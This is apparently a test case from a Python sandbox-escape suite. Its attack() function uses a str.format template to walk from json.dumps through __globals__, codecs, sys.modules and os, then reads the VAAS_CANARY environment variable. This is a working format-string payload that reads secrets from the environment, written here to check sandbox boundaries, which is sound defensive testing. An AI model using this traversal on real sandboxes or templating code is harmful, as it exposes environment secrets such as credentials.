"""No app reads attributes by a method that it makes of a string"s format."""

CLASS = "format"
BOUNDARY = "both"
NEEDS = ("types", "json")


import json
import types


def attack():
    text = "{0.__globals__[codecs].sys.modules[os].environ[VAAS_CANARY]}"
    return "ESCAPED: " + types.MethodType(str.format, text)(json.dumps)
